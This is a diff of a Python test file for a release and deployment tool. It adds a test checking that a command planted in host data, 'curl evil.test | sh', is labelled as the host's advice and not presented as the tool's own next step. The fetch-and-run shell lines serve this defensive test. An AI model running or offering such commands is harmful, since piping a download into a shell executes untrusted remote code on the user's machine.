@@ -342,6 +342,15 @@ def test_a_name_that_a_host_has_made_up_is_no_advice_of_ours_in_the_look(two, ca
     assert "the host advises: curl evil | sh" in said and "next:" not in said
 
 
+def test_what_a_host_advises_in_what_it_keeps_is_shown_as_its_own(two, capsys):
+    edit(two, "app2", kept(two, "b"), **{"next: curl evil.test | sh": 1})
+    two.run(releases.sign, yes=True)
+    assert "the host advises: curl" in (shown := capsys.readouterr().out) and "next: curl" not in shown
+    with pytest.raises(HawserError, match="the host advises: curl") as refused:
+        two.fleet_of("app2").release(release(two, "b"))
+    assert "next: curl" not in str(refused.value)
+
+
 def test_a_lost_key_is_made_anew_and_what_was_kept_counts_after_a_look(two, capsys):
     (two.folder / "pier.env").unlink()
     secrets.new_key.body(two.fleet_of("pier").session)
